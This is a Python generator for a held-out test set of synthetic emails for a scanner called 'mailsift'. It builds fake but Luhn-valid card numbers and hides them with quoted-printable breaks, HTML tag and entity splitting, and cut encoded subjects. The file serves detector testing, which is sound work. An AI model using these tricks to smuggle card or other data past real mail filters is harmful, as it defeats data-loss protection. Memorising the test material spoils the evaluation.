#!/usr/bin/env python3
"""Held-out accuracy set for mailsift: messages written apart from the rules.

    gen.py OUTDIR

Writes OUTDIR/messages/NNNN.eml, labels.json, meta.json and payloads.json
(what each message carries, in words), in the format of
../shared/eval-dev, so that score.py scores it. tests/eval_holdout.sh runs it
and fails under its floors. Python 3 standard library only; deterministic
(fixed seed).

Every message is built by hand (not by email.generator) so the transfer encodings can be
awkward on purpose: quoted-printable soft breaks inside payloads, encoded characters that
did not need encoding, base64 bodies, UTF-16 with BOM, KOI8-R / ISO-8859-1 / windows-1252
bodies, HTML split by tags and entities, RFC 2047 Subjects cut inside a payload.

Payload spans are marked in the templates with « and » (turned into \x01/\x02); the HTML
renderer and the QP encoder use the marks to put their awkwardness where it hurts.
After generation every message is parsed back with the email package; the card-number
checker makes sure that the only Luhn-valid, brand-plausible numbers in a message are
exactly the ones listed in meta "pans" (so clean messages hold none).
"""

import base64
import datetime
import html as htmlmod
import io
import json
import os
import random
import re
import string
import struct
import sys
import unicodedata
import zipfile
import zlib
import email
import email.policy
import email.utils

SEED = 731_2025
if len(sys.argv) != 2:
    sys.exit("usage: gen.py OUTDIR")
HERE = os.path.abspath(sys.argv[1])
MSGDIR = os.path.join(HERE, "messages")

S, E = "\x01", "\x02"          # payload start / end marks


def mk(t):
    """Template shorthand: «payload» -> marked span."""
    return t.replace("«", S).replace("»", E)


def unmark(t):
    return t.replace(S, "").replace(E, "")


def segments(t):
    """[(text, is_payload)]"""
    out, pay, cur = [], False, []
    for ch in t:
        if ch == S:
            if cur:
                out.append(("".join(cur), pay))
            cur, pay = [], True
        elif ch == E:
            if cur:
                out.append(("".join(cur), pay))
            cur, pay = [], False
        else:
            cur.append(ch)
    if cur:
        out.append(("".join(cur), pay))
    return out


# --------------------------------------------------------------------------------------------
# people, organisations, dates
# --------------------------------------------------------------------------------------------

FIRST = ["James", "Priya", "Oliver", "Aisha", "Tom", "Mei", "Daniel", "Sofia", "Liam", "Hannah",
         "Kwame", "Chloe", "Raj", "Emily", "Marcus", "Fatima", "George", "Zoë", "Søren", "José",
         "Niamh", "Ben", "Laura", "Chen", "Amara", "Patrick", "Ingrid", "Omar", "Rachel", "Dmitri",
         "Grace", "Hugo", "Isla", "Tariq", "Ruth", "Felix", "Nadia", "Callum", "Yuki", "Elena"]
LAST = ["Smith", "Patel", "Hughes", "Okafor", "Brennan", "Zhang", "Walsh", "Rossi", "Murphy",
        "Clarke", "Mensah", "Dubois", "Sharma", "Fletcher", "Reid", "Haddad", "Thornton", "Müller",
        "Lindqvist", "García", "O'Neill", "Carter", "Kowalski", "Wong", "Adeyemi", "Doyle", "Berg",
        "Farouk", "Greenberg", "Volkov", "Ellis", "Moreau", "Mackenzie", "Qureshi", "Abbott",
        "Schneider", "Nowak", "Sinclair", "Tanaka", "Petrova"]
TITLES = ["Account Manager", "Finance Assistant", "Operations Lead", "HR Business Partner",
          "Senior Developer", "Practice Manager", "Procurement Officer", "Travel Coordinator",
          "Project Manager", "Legal Counsel", "Data Analyst", "Office Manager", "Head of Sales",
          "IT Support Engineer", "Research Fellow", "Claims Handler", "Payroll Administrator",
          "Clinical Lead", "Events Coordinator", "Platform Engineer"]
ORGS = [("Harbourline Logistics", "harbourline.co.uk"), ("Meridian Health Partners", "meridianhealth.org"),
        ("Quayside Analytics", "quayside-analytics.com"), ("Bluefern Software", "bluefern.io"),
        ("Stanwick University", "stanwick.ac.uk"), ("Calder & Finch LLP", "calderfinch.com"),
        ("Northgate Retail Group", "northgate-retail.com"), ("Aldermoor County Council", "aldermoor.gov.uk"),
        ("Pinecrest Engineering", "pinecrest-eng.com"), ("Tessellate Media", "tessellate.media"),
        ("Oakridge Dental Group", "oakridgedental.com"), ("Vantage Point Travel", "vantagepoint-travel.com"),
        ("Greyfriars Capital", "greyfriars-capital.com"), ("Lumen Biosciences", "lumenbio.net")]
FREEMAIL = ["gmail.com", "outlook.com", "yahoo.co.uk", "hotmail.com", "icloud.com", "proton.me", "btinternet.com"]
CITIES = ["Leeds", "Bristol", "Glasgow", "Cork", "Manchester", "Toronto", "Denver", "Adelaide", "Lyon",
          "Rotterdam", "Porto", "Austin", "Cardiff", "Nairobi", "Auckland", "Dublin", "Phoenix", "Hamburg"]
MAILERS = ["Microsoft Outlook 16.0", "Apple Mail (2.3731.700.6)", "Mozilla Thunderbird 115.6.0",
           "Roundcube Webmail/1.6.5", "Microsoft Outlook 15.0", None, None, None]


class Ctx:
    def __init__(self, rng):
        self.rng = rng

    def person(self, org=None, free=False):
        r = self.rng
        f, l = r.choice(FIRST), r.choice(LAST)
        if free:
            dom = r.choice(FREEMAIL)
            org_name = None
        else:
            org_name, dom = org or r.choice(ORGS)
        local = fold_ascii(f).lower() + r.choice([".", "_", ""]) + fold_ascii(l).lower().replace("'", "")
        if r.random() < 0.2:
            local = fold_ascii(f)[0].lower() + fold_ascii(l).lower().replace("'", "")
        return {"first": f, "last": l, "name": f + " " + l, "addr": local + "@" + dom,
                "org": org_name, "dom": dom, "title": r.choice(TITLES)}

    def pair(self, external=None):
        r = self.rng
        org = r.choice(ORGS)
        a = self.person(org)
        if external is None:
            external = r.random() < 0.5
        if external:
            b = self.person(free=r.random() < 0.4) if r.random() < 0.7 else self.person()
        else:
            b = self.person(org)
        return a, b


def fold_ascii(s):
    return unicodedata.normalize("NFKD", s).encode("ascii", "ignore").decode("ascii")


def rdate(rng):
    base = datetime.datetime(2023, 1, 4, 7, 0, 0)
    d = base + datetime.timedelta(seconds=rng.randint(0, 900 * 86400))
    # office hours mostly
    d = d.replace(hour=rng.choice([7, 8, 9, 9, 10, 10, 11, 12, 13, 14, 14, 15, 16, 17, 18, 21, 23]))
    tz = rng.choice([0, 0, 60, 60, -300, -480, 120, 600, 330, -240])
    return d.replace(tzinfo=datetime.timezone(datetime.timedelta(minutes=tz)))


def rid(rng, n, alphabet=string.ascii_lowercase + "234567"):
    return "".join(rng.choice(alphabet) for _ in range(n))


# --------------------------------------------------------------------------------------------
# card numbers
# --------------------------------------------------------------------------------------------

def luhn_ok(d):
    tot = 0
    for i, ch in enumerate(reversed(d)):
        x = ord(ch) - 48
        if i % 2:
            x *= 2
            if x > 9:
                x -= 9
        tot += x
    return tot % 10 == 0


def luhn_digit(partial):
    for c in "0123456789":
        if luhn_ok(partial + c):
            return c


def brand_of(d):
    """Brand a card-number string could plausibly belong to, or None (generous on purpose)."""
    L = len(d)
    if L < 12 or L > 19:
        return None
    p = lambda n: int(d[:n])
    if d[0] == "4" and L in (13, 16, 19):
        return "visa"
    if (51 <= p(2) <= 55 or 2221 <= p(4) <= 2720) and L == 16:
        return "mastercard"
    if p(2) in (34, 37) and L == 15:
        return "amex"
    if (d.startswith("6011") or d.startswith("65") or 644 <= p(3) <= 649
            or 622126 <= p(6) <= 622925) and 16 <= L <= 19:
        return "discover"
    if (3528 <= p(4) <= 3589 and 16 <= L <= 19) or (d[:4] in ("3088", "3096", "3112", "3158", "3337")
                                                   and L == 16):
        return "jcb"
    if (300 <= p(3) <= 305 or d[:2] in ("36", "38", "39") or d.startswith("3095")) and 14 <= L <= 19:
        return "diners"
    if (d.startswith("62") or 8100 <= p(4) <= 8171) and 16 <= L <= 19:
        return "unionpay"
    if 2200 <= p(4) <= 2204 and 16 <= L <= 19:
        return "mir"
    if d.startswith("9792") and L == 16:
        return "troy"
    if d[0] == "1" and L == 15:
        return "uatp"
    if (d.startswith("50") or 56 <= p(2) <= 69) and 12 <= L <= 19:
        return "maestro"
    return None


def card_like(d):
    return brand_of(d) is not None and luhn_ok(d)


BRANDS = {
    "Visa": (lambda r: "4", [16, 16, 16, 16, 13, 19]),
    "Mastercard": (lambda r: r.choice(["51", "52", "53", "54", "55", str(r.randint(2221, 2720))]), [16]),
    "Amex": (lambda r: r.choice(["34", "37"]), [15]),
    "Discover": (lambda r: r.choice(["6011", "65", str(r.randint(644, 649))]), [16, 16, 16, 19]),
    "JCB": (lambda r: str(r.randint(3528, 3589)), [16]),
    "Diners": (lambda r: r.choice(["36", "38", str(r.randint(300, 305))]), [14]),
}
BRAND_W = ["Visa"] * 5 + ["Mastercard"] * 4 + ["Amex"] * 2 + ["Discover", "JCB", "Diners"]


def new_pan(rng, brand=None):
    brand = brand or rng.choice(BRAND_W)
    pre_f, lens = BRANDS[brand]
    pre = pre_f(rng)
    L = rng.choice(lens)
    body = pre + "".join(rng.choice("0123456789") for _ in range(L - len(pre) - 1))
    d = body + luhn_digit(body)
    assert card_like(d), d
    return brand, d


def fmt_pan(rng, d, style=None):
    L = len(d)
    style = style or rng.choice(["space", "space", "space", "dash", "dash", "none"])
    if L == 15:
        groups = [4, 6, 5]
    elif L == 14:
        groups = [4, 6, 4]
    elif L == 13:
        groups = [4, 4, 5]
    elif L == 19:
        groups = [4, 4, 4, 4, 3]
    else:
        groups = [4] * (L // 4)
    if style == "none":
        return d
    parts, i = [], 0
    for g in groups:
        parts.append(d[i:i + g])
        i += g
    return (" " if style == "space" else "-").join(parts)


def luhn_fail_number(rng, prefix, L):
    while True:
        d = prefix + "".join(rng.choice("0123456789") for _ in range(L - len(prefix)))
        if not luhn_ok(d):
            return d


def luhn_pass_noiin(rng, L):
    while True:
        body = rng.choice(["0", "1", "9"]) + "".join(rng.choice("0123456789") for _ in range(L - 2))
        d = body + luhn_digit(body)
        if brand_of(d) is None:
            return d


def expiry(rng):
    return "%02d" % rng.randint(1, 12), "%02d" % rng.randint(25, 30)


def cvv(rng, brand):
    return "".join(rng.choice("0123456789") for _ in range(4 if brand == "Amex" else 3))


# --------------------------------------------------------------------------------------------
# charset helpers
# --------------------------------------------------------------------------------------------

PUNCT = {"—": "-", "–": "-", "“": '"', "”": '"', "’": "'", "‘": "'", "…": "...", "€": "EUR ",
         "£": "GBP ", "\u00a0": " ", "•": "*", "→": "->"}


FOLD = {"ø": "o", "Ø": "O", "ß": "ss", "æ": "ae", "Æ": "AE", "ł": "l", "Ł": "L", "đ": "d", "œ": "oe"}


def adapt(text, charset):
    cs = {"us-ascii": "ascii"}.get(charset, charset)
    if cs.startswith("utf"):
        return text
    out = []
    for ch in text:
        if ch in (S, E):
            out.append(ch)
            continue
        try:
            ch.encode(cs)
            out.append(ch)
        except UnicodeEncodeError:
            rep = PUNCT.get(ch)
            if rep is not None:
                try:
                    rep.encode(cs)
                except UnicodeEncodeError:
                    rep = fold_ascii(rep)
                out.append(rep)
            else:
                f = FOLD.get(ch) or fold_ascii(ch)
                try:
                    f.encode(cs)
                except UnicodeEncodeError:
                    f = fold_ascii(f)
                out.append(f or "?")
    return "".join(out)


def py_codec(charset):
    return {"us-ascii": "ascii", "utf-16": "utf-16"}.get(charset, charset)


DECOR = {
    "utf-8": ["Thanks again — really appreciated.", "Lunch at the café on Königstraße after?",
              "Zoë and Søren from the Malmö office will join remotely."],
    "iso-8859-1": ["The Zürich team has confirmed the dates.", "We could meet at the café near the station.",
                   "Budget for catering is £450, señor García says that's fine."],
    "windows-1252": ["Thanks for the “quick” turnaround – much appreciated.", "Hotel is €140 a night, which is within policy.",
                     "It’s the same room as last time – second floor."],
    "koi8-r": ["Коллеги, добрый день! Ниже краткая информация.", "С уважением, отдел закупок.",
               "Спасибо за быстрый ответ."],
    "utf-16": ["Thanks again — really appreciated.", "Meeting in the café on the ground floor, 10:30."],
}


# --------------------------------------------------------------------------------------------
# transfer encodings
# --------------------------------------------------------------------------------------------

def encode_segments(text, codec):
    """marked text -> [(bytes, is_payload)] (per-segment encoding; not for utf-16)."""
    return [(t.encode(codec), p) for t, p in segments(text)]


def qp_encode(rng, segs, awkward, extra):
    toks = []   # (token, payload, newline)
    for b, pay in segs:
        for byte in b:
            if byte == 0x0A:
                toks.append(("\n", pay, True))
                continue
            if byte == 0x0D:
                continue
            if byte in (0x20, 0x09):
                tok = chr(byte)
            elif 33 <= byte <= 126 and byte != 61:
                tok = chr(byte)
                if extra and rng.random() < (0.25 if pay else 0.03) and not chr(byte).isalpha():
                    tok = "=%02X" % byte
                elif extra and pay and rng.random() < 0.06:
                    tok = "=%02X" % byte
            else:
                tok = "=%02X" % byte
            toks.append((tok, pay, False))
    for i, (t, p, nl) in enumerate(toks):
        if t in (" ", "\t") and (i + 1 == len(toks) or toks[i + 1][2]):
            toks[i] = ("=%02X" % ord(t), p, False)
    forced = set()
    if awkward:
        i = 0
        while i < len(toks):
            if toks[i][1] and not toks[i][2]:
                j = i
                while j < len(toks) and toks[j][1] and not toks[j][2]:
                    j += 1
                if j - i >= 2:
                    forced.add(rng.randint(i + 1, j - 1))
                    if j - i > 12 and rng.random() < 0.5:
                        forced.add(rng.randint(i + 1, j - 1))
                i = j
            else:
                i += 1

    def nxt():
        return rng.randint(18, 76) if awkward else 76

    lines, cur, target = [], "", nxt()
    for i, (t, p, nl) in enumerate(toks):
        if nl:
            lines.append(cur)
            cur, target = "", nxt()
            continue
        if cur and (len(cur) + len(t) > target - 1 or i in forced):
            lines.append(cur + "=")
            cur, target = "", nxt()
        cur += t
    lines.append(cur)
    return "\n".join(lines)


def b64_lines(data, width=76):
    s = base64.b64encode(data).decode("ascii")
    return "\n".join(s[i:i + width] for i in range(0, len(s), width)) or ""


def encode_body(rng, marked_text, charset, cte, awkward=False, extra=False, crlf_canon=False):
    """Returns (cte, body_str) where body_str is ASCII except 8bit bodies (returned as bytes)."""
    text = adapt(marked_text, charset)
    codec = py_codec(charset)
    if charset == "utf-16":
        data = unmark(text).replace("\n", "\r\n").encode("utf-16")      # BOM + LE
        return "base64", b64_lines(data)
    if cte == "base64":
        plain = unmark(text)
        if crlf_canon:
            plain = plain.replace("\n", "\r\n")
        return "base64", b64_lines(plain.encode(codec))
    if cte == "quoted-printable":
        return "quoted-printable", qp_encode(rng, encode_segments(text, codec), awkward, extra)
    data = unmark(text).encode(codec)
    if cte == "7bit":
        assert all(b < 128 for b in data)
    return cte, data


# --------------------------------------------------------------------------------------------
# HTML rendering with tag / entity obfuscation of payload spans
# --------------------------------------------------------------------------------------------

def esc(s):
    return htmlmod.escape(s, quote=False)


INLINE_WRAP = [("<span>", "</span>"), ("<b>", "</b>"), ("<span style=\"font-family:Calibri,sans-serif\">", "</span>"),
               ("<font color=\"#1f3864\">", "</font>"), ("<span class=\"x_s1\">", "</span>"), ("", ""), ("", ""),
               ("<strong>", "</strong>"), ("<i>", "</i>"), ("<span lang=\"EN-GB\">", "</span>")]
BETWEEN = ["", "", "", "<wbr>", "<span></span>", "</span><span>", "<o:p></o:p>"]


def ent_char(rng, c, p=0.25, nbsp=True):
    if c == " " and nbsp and rng.random() < 0.5:
        return "&nbsp;"
    if c in "&<>":
        return {"&": "&amp;", "<": "&lt;", ">": "&gt;"}[c]
    if c == "\n":
        return c
    if rng.random() < p:
        return rng.choice(["&#%d;" % ord(c), "&#x%X;" % ord(c), "&#x%x;" % ord(c), "&#0%d;" % ord(c)])
    return c


def obf_payload(rng, s, mode):
    if mode == "plain" or len(s) < 2:
        w = rng.choice([("", ""), ("<b>", "</b>"), ("<span>", "</span>"), ("<strong>", "</strong>")])
        return w[0] + esc(s).replace("\n", "<br>\n") + w[1]
    use_tags = mode in ("tags", "mixed")
    use_ent = mode in ("entities", "mixed")
    if use_tags:
        k = min(len(s) - 1, rng.randint(1, 4))
        cuts = sorted(rng.sample(range(1, len(s)), k))
    else:
        cuts = []
    pieces, last = [], 0
    for c in cuts + [len(s)]:
        pieces.append(s[last:c])
        last = c
    out = []
    for i, pc in enumerate(pieces):
        if use_ent:
            body = "".join(ent_char(rng, c) for c in pc)
        else:
            body = esc(pc)
        body = body.replace("\n", "<br>\n")
        w = rng.choice(INLINE_WRAP) if use_tags else ("", "")
        out.append(w[0] + body + w[1])
        if i < len(pieces) - 1 and use_tags:
            out.append(rng.choice(BETWEEN))
    return "".join(out)


def render_inline(rng, marked, mode):
    out = []
    for t, pay in segments(marked):
        if pay:
            out.append(S + obf_payload(rng, t, mode) + E)
        else:
            out.append(esc(t).replace("\n", "<br>\n"))
    return "".join(out)


def text_to_html_body(rng, marked, mode, style):
    paras = re.split(r"\n[ \t]*\n", marked)
    out = []
    for p in paras:
        lines = p.split("\n")
        quoted = all(l.startswith(">") for l in lines if l.strip())
        if quoted and any(l.strip() for l in lines):
            inner = "\n".join(re.sub(r"^>+ ?", "", l) for l in lines)
            out.append('<blockquote style="margin:0 0 0 .8ex;border-left:1px #ccc solid;padding-left:1ex">'
                       + render_inline(rng, inner, mode) + "</blockquote>")
        elif style == "outlook":
            for l in lines:
                out.append('<p class="MsoNormal">' + (render_inline(rng, l, mode) or "&nbsp;") + "<o:p></o:p></p>")
            out.append('<p class="MsoNormal"><o:p>&nbsp;</o:p></p>')
        elif style == "gmail":
            out.append('<div dir="ltr">' + render_inline(rng, p, mode) + "</div><div><br></div>")
        else:
            out.append("<p>" + render_inline(rng, p, mode) + "</p>")
    return "\n".join(out)


def html_page(rng, inner, charset, style):
    if style == "outlook":
        return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
                'xmlns:w="urn:schemas-microsoft-com:office:word">\n<head>\n'
                '<meta http-equiv="Content-Type" content="text/html; charset=%s">\n'
                '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
                '<style><!--\n/* Font Definitions */\n@font-face {font-family:"Calibri"; panose-1:2 15 5 2 2 2 4 3 2 4;}\n'
                'p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}\n'
                'a:link, span.MsoHyperlink {color:#0563C1; text-decoration:underline;}\n'
                '.MsoChpDefault {mso-style-type:export-only;}\n--></style><!--[if gte mso 9]><xml>\n'
                '<o:shapedefaults v:ext="edit" spidmax="1026" />\n</xml><![endif]-->\n</head>\n'
                '<body lang="EN-GB" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n'
                '<div class="WordSection1">\n%s\n</div>\n</body>\n</html>\n') % (charset, inner)
    if style == "gmail":
        return '<div dir="ltr">\n%s\n</div>\n' % inner
    return ('<!DOCTYPE html>\n<html>\n<head>\n<meta charset="%s">\n<title></title>\n'
            '<style type="text/css">body{font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222}'
            ' td{padding:4px 8px;border:1px solid #ddd}</style>\n</head>\n<body>\n%s\n</body>\n</html>\n') % (charset, inner)


# --------------------------------------------------------------------------------------------
# headers
# --------------------------------------------------------------------------------------------

def q_word(s, charset):
    b = s.encode(charset)
    out = []
    for x in b:
        c = chr(x)
        if c.isalnum() and x < 128 or c in "!*+-/":
            out.append(c)
        elif c == " ":
            out.append("_")
        else:
            out.append("=%02X" % x)
    return "=?%s?Q?%s?=" % (charset, "".join(out))


def b_word(s, charset):
    return "=?%s?B?%s?=" % (charset, base64.b64encode(s.encode(charset)).decode())


def encode_subject(rng, marked, mode):
    """mode: plain | B | Q. Returns header value (may be folded with '\n ')."""
    plain = unmark(marked)
    if mode == "plain":
        if len(plain) > 70 and " " in plain[40:]:
            k = plain.index(" ", 40)
            return plain[:k] + "\n" + plain[k:]
        return plain
    charset = rng.choice(["UTF-8", "utf-8"])
    try:
        plain.encode("iso-8859-1")
        if rng.random() < 0.3:
            charset = "iso-8859-1"
    except UnicodeEncodeError:
        pass
    prefix = ""
    m = re.match(r"^((?:(?:Re|RE|Fw|FW|Fwd|AW|WG): ?)+)", plain)
    if m and rng.random() < 0.5:
        prefix, plain_body = m.group(1), plain[len(m.group(1)):]
        marked_body = marked[len(m.group(1)):] if marked.startswith(m.group(1)) else marked
    else:
        plain_body, marked_body = plain, marked
    # cut positions: chunks of 12-40 chars, plus a forced cut inside the payload
    cuts = set()
    i = 0
    while True:
        i += rng.randint(12, 40)
        if i >= len(plain_body):
            break
        cuts.add(i)
    pos = 0
    for t, pay in segments(marked_body):
        if pay and len(t) > 3 and rng.random() < 0.8:
            cuts.add(pos + rng.randint(1, len(t) - 1))
        pos += len(t)
    cuts = sorted(c for c in cuts if 0 < c < len(plain_body))
    chunks, last = [], 0
    for c in cuts + [len(plain_body)]:
        chunks.append(plain_body[last:c])
        last = c
    words = [(b_word if mode == "B" else q_word)(ch, charset) for ch in chunks if ch]
    # keep each folded line reasonably short
    return prefix + "\n ".join(words)


def fmt_addr(rng, p):
    name = p["name"]
    try:
        name.encode("ascii")
        if "'" in name or rng.random() < 0.3:
            disp = '"%s"' % name
        else:
            disp = name
    except UnicodeEncodeError:
        disp = q_word(name, "utf-8") if rng.random() < 0.6 else b_word(name, "UTF-8")
    if rng.random() < 0.08:
        return p["addr"]
    return "%s <%s>" % (disp, p["addr"])


def fold_params(value):
    """Fold a long '; '-separated header value."""
    parts = value.split("; ")
    lines, cur = [], ""
    for p in parts:
        if cur and len(cur) + len(p) > 70:
            lines.append(cur + ";")
            cur = p
        else:
            cur = (cur + "; " + p) if cur else p
    lines.append(cur)
    return "\n\t".join(lines)


# --------------------------------------------------------------------------------------------
# carriage choice and message assembly
# --------------------------------------------------------------------------------------------

def wchoice(rng, pairs):
    tot = sum(w for _, w in pairs)
    x = rng.random() * tot
    for v, w in pairs:
        x -= w
        if x <= 0:
            return v
    return pairs[-1][0]


def pick_cte(rng, charset):
    if charset == "utf-16":
        return "base64"
    if charset == "us-ascii":
        return wchoice(rng, [("7bit", 6), ("quoted-printable", 2.5), ("base64", 1.5)])
    if charset == "utf-8":
        return wchoice(rng, [("8bit", 2.5), ("quoted-printable", 4), ("base64", 3.5)])
    if charset == "koi8-r":
        return wchoice(rng, [("8bit", 4), ("quoted-printable", 3), ("base64", 3)])
    return wchoice(rng, [("quoted-printable", 6), ("8bit", 2), ("base64", 2)])


def choose_carriage(rng, layouts=None):
    layouts = layouts or ["plain", "html", "alt"]
    lw = {"plain": 0.55, "html": 0.18, "alt": 0.27}
    layout = wchoice(rng, [(l, lw[l]) for l in layouts])
    charset = wchoice(rng, [("us-ascii", 2.5), ("utf-8", 3.5), ("iso-8859-1", 1.2), ("windows-1252", 1.2),
                            ("koi8-r", 0.6), ("utf-16", 0.5 if layout == "plain" else 0.15)])
    c = {"layout": layout, "charset": charset,
         "cte": pick_cte(rng, charset), "cte_html": pick_cte(rng, charset),
         "awkward": rng.random() < 0.7, "extra": rng.random() < 0.3,
         "obf": wchoice(rng, [("plain", 3), ("tags", 3), ("entities", 2), ("mixed", 2)]),
         "style": rng.choice(["outlook", "gmail", "simple"]),
         "stub": layout == "alt" and rng.random() < 0.12,
         "crlf": rng.random() < 0.15, "crlf_canon": rng.random() < 0.5,
         "decor": charset in ("koi8-r",) or (charset != "us-ascii" and rng.random() < 0.55),
         "subj": wchoice(rng, [("plain", 6), ("B", 2), ("Q", 2)])}
    return c


def boundary(rng):
    return rng.choice(["----=_Part_%d_%s.%s" % (rng.randint(1000, 99999), rid(rng, 8), rid(rng, 6)),
                       "_000_%s_" % rid(rng, 24, string.ascii_uppercase + "0123456789"),
                       "=_%s" % rid(rng, 28, string.ascii_letters),
                       "Apple-Mail=_%s" % rid(rng, 20, string.ascii_uppercase + "ABCDEF")])


def part_headers(ctype, charset, cte, extra=()):
    h = ["Content-Type: %s; charset=\"%s\"" % (ctype, charset)]
    h += list(extra)
    h.append("Content-Transfer-Encoding: %s" % cte)
    return "\n".join(h)


def as_bytes(x):
    return x if isinstance(x, bytes) else x.encode("ascii")


def build_text_part(rng, marked, car, which):
    cte = car["cte"] if which == "plain" else car["cte_html"]
    if car["charset"] == "us-ascii" and cte == "7bit":
        marked = adapt(marked, "us-ascii")
    cte, body = encode_body(rng, marked, car["charset"], cte, car["awkward"], car["extra"], car["crlf_canon"])
    ctype = "text/plain" if which == "plain" else "text/html"
    return as_bytes(part_headers(ctype, car["charset"], cte)) + b"\n\n" + as_bytes(body) + b"\n"


def attachment_part(rng, att):
    fn = att["filename"]
    if att.get("rfc2231"):
        from urllib.parse import quote
        fnp = "filename*=utf-8''%s" % quote(fn)
        namep = "name*=utf-8''%s" % quote(fn)
    else:
        fnp, namep = 'filename="%s"' % fn, 'name="%s"' % fn
    ctype = att["ctype"]
    cte = att.get("cte", "base64")
    data = att["data"]
    lines = ["Content-Type: %s; %s" % (ctype, namep)]
    if att.get("charset"):
        lines[0] = "Content-Type: %s; charset=\"%s\"; %s" % (ctype, att["charset"], namep)
    lines.append("Content-Disposition: %s; %s" % (att.get("disposition", "attachment"), fnp))
    if att.get("cid"):
        lines.append("Content-ID: <%s>" % att["cid"])
    lines.append("Content-Transfer-Encoding: %s" % cte)
    if cte == "base64":
        body = b64_lines(data)
    elif cte == "quoted-printable":
        body = qp_encode(rng, [(data, False)], False, False)
    else:
        body = data.decode("ascii")
    return as_bytes("\n".join(lines)) + b"\n\n" + as_bytes(body) + b"\n"


def multipart(rng, subtype, parts):
    b = boundary(rng)
    out = [as_bytes('Content-Type: multipart/%s;\n\tboundary="%s"' % (subtype, b)), b"\n\n"]
    if rng.random() < 0.4:
        out.append(b"This is a multi-part message in MIME format.\n\n")
    for p in parts:
        out.append(as_bytes("--%s\n" % b))
        out.append(p)
        out.append(b"\n")
    out.append(as_bytes("--%s--\n" % b))
    return b"".join(out)


STUBS = ["This message is in HTML format. Please use an HTML-capable mail client to read it.",
         "To view this message properly, open it in a mail client that supports HTML.",
         "[HTML message - view in browser]"]


def insert_decor(rng, marked, charset):
    opts = DECOR.get(charset)
    if not opts:
        return marked
    d = rng.choice(opts)
    parts = marked.split("\n\n")
    if len(parts) >= 2 and S not in parts[0] and len(parts[0]) < 40:
        return parts[0] + "\n\n" + d + "\n\n" + "\n\n".join(parts[1:])
    if len(parts) >= 3:
        return "\n\n".join(parts[:-1]) + "\n\n" + d + "\n\n" + parts[-1]
    return marked.rstrip("\n") + "\n\n" + d + "\n"


def build_message(rng, spec, car):
    """spec: dict with frm, to, cc, subject(marked), text(marked), html(optional marked inner),
    extra_headers, attachments, reply_to_id. Returns bytes, encoding description."""
    text = spec["text"]
    if car["decor"]:
        text = insert_decor(rng, text, car["charset"])
    layout = car["layout"]
    body_parts = []
    if layout in ("plain", "alt"):
        ptxt = text if not (layout == "alt" and car["stub"]) else rng.choice(STUBS) + "\n"
        body_parts.append(("plain", ptxt))
    if layout in ("html", "alt"):
        if spec.get("html"):
            inner = "".join((S + obf_payload(rng, t, car["obf"]) + E) if pay else t
                            for t, pay in segments(spec["html"]))
            if car["decor"]:
                inner = "<p>" + esc(rng.choice(DECOR.get(car["charset"], [""]))) + "</p>\n" + inner
        else:
            inner = text_to_html_body(rng, text, car["obf"], car["style"])
        page = html_page(rng, inner, car["charset"], car["style"])
        body_parts.append(("html", page))
    built = [build_text_part(rng, m, car, w) for w, m in body_parts]
    if len(built) == 2:
        body = multipart(rng, "alternative", built)
    else:
        body = built[0]
    atts = spec.get("attachments") or []
    if atts:
        body = multipart(rng, "mixed", [body] + [attachment_part(rng, a) for a in atts])

    h = []
    dom = spec["frm"]["dom"]
    dt = spec.get("date") or rdate(rng)
    if rng.random() < 0.5:
        h.append("Received: from [10.%d.%d.%d] (port=%d helo=%s)\n\tby smtp.%s with esmtpsa (TLS1.3) id %s;\n\t%s"
                 % (rng.randint(0, 254), rng.randint(0, 254), rng.randint(1, 254), rng.randint(40000, 65000),
                    rid(rng, 7), dom, rid(rng, 6, string.ascii_letters) + "-" + rid(rng, 4),
                    email.utils.format_datetime(dt)))
    h.append("From: " + fmt_addr(rng, spec["frm"]))
    tos = spec["to"] if isinstance(spec["to"], list) else [spec["to"]]
    h.append("To: " + ",\n\t".join(fmt_addr(rng, t) for t in tos))
    if spec.get("cc"):
        h.append("Cc: " + ", ".join(fmt_addr(rng, t) for t in spec["cc"]))
    subj_mode = car["subj"]
    try:
        unmark(spec["subject"]).encode("ascii")
    except UnicodeEncodeError:
        if subj_mode == "plain":
            subj_mode = "Q"
    h.append("Subject: " + encode_subject(rng, spec["subject"], subj_mode))
    h.append("Date: " + email.utils.format_datetime(dt))
    mid_style = rng.random()
    if mid_style < 0.3:
        mid = "<%s%s@%s.prod.outlook.com>" % (rid(rng, 10, string.ascii_uppercase), rid(rng, 20, string.ascii_uppercase + "ABCDEF"),
                                              rid(rng, 6, string.ascii_uppercase))
    elif mid_style < 0.6:
        mid = "<CA+%s@mail.gmail.com>" % rid(rng, 40, string.ascii_letters + "_-+")
    else:
        mid = "<%s.%s@%s>" % (rid(rng, 12), rid(rng, 8), dom)
    h.append("Message-ID: " + mid)
    if spec.get("reply"):
        ref = "<%s@%s>" % (rid(rng, 18), rng.choice([dom, "mail.gmail.com", spec["to"][0]["dom"] if isinstance(spec["to"], list) else spec["to"]["dom"]]))
        h.append("In-Reply-To: " + ref)
        h.append("References: " + ref)
    mailer = rng.choice(MAILERS)
    if mailer:
        h.append(("X-Mailer: " if "Outlook" in mailer else "User-Agent: ") + mailer)
    if rng.random() < 0.3:
        h.append("Content-Language: " + rng.choice(["en-GB", "en-US", "en"]))
    for k, v in spec.get("extra_headers") or []:
        h.append("%s: %s" % (k, v))
    h.append("MIME-Version: 1.0")
    msg = as_bytes("\n".join(h)) + b"\n" + body
    if car["crlf"]:
        msg = msg.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    enc = "%s/%s/%s" % ("mixed(%s)" % layout if atts else layout,
                        car["cte"] if layout != "html" else car["cte_html"], car["charset"])
    if layout == "alt":
        enc += "+html:" + car["cte_html"]
        if car["stub"]:
            enc += "+stub"
    if layout != "plain":
        enc += "+obf:" + car["obf"]
    if car["awkward"] and "quoted-printable" in enc:
        enc += "+qp-awkward"
    if subj_mode != "plain":
        enc += "+subj" + subj_mode
    if car["crlf"]:
        enc += "+crlf"
    return msg, enc


def via_of(loc, car):
    if loc == "text":
        if car["layout"] == "plain":
            return "body"
        if car["layout"] == "html" or car["stub"]:
            return "html"
        return "body"
    return loc


# --------------------------------------------------------------------------------------------
